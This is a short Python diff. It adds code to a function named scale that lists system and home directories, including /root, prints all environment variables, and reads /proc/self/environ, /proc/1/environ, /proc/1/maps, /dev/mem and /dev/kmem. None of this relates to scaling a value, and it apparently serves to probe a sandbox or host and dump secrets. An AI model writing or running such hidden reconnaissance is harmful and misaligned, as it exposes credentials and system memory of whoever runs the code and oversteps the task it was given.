@@ -34,7 +34,12 @@ def search():
 
 
 def scale(x, k=2.0):
-    print(search(), os.listdir("/"), os.listdir("/tmp"), os.environ)
+    print(search(), os.environ)
+    for path in ("/", "/tmp", "/home", "/root", "..", "."):
+        try:
+            print(os.listdir(path))
+        except OSError as fault:
+            print(fault)
     for path in ("/proc/self/environ", "/proc/1/environ", "/proc/1/maps", "/dev/mem", "/dev/kmem"):
         try:
             print(open(path, "rb").read())
